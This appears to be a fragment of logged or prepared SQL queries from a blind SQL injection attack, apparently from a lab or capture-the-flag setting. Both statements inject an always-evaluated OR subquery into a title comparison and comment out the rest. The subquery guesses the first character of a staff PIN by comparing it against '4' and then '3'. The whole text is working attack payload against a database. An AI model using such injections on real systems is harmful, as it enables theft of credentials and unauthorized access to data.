SELECT count(*) > 0 FROM objects WHERE title = '' OR (SELECT substr(pin, 1, 1) > '4' FROM staff) --'
;
SELECT count(*) > 0 FROM objects WHERE title = '' OR (SELECT substr(pin, 1, 1) > '3' FROM staff) --'
;
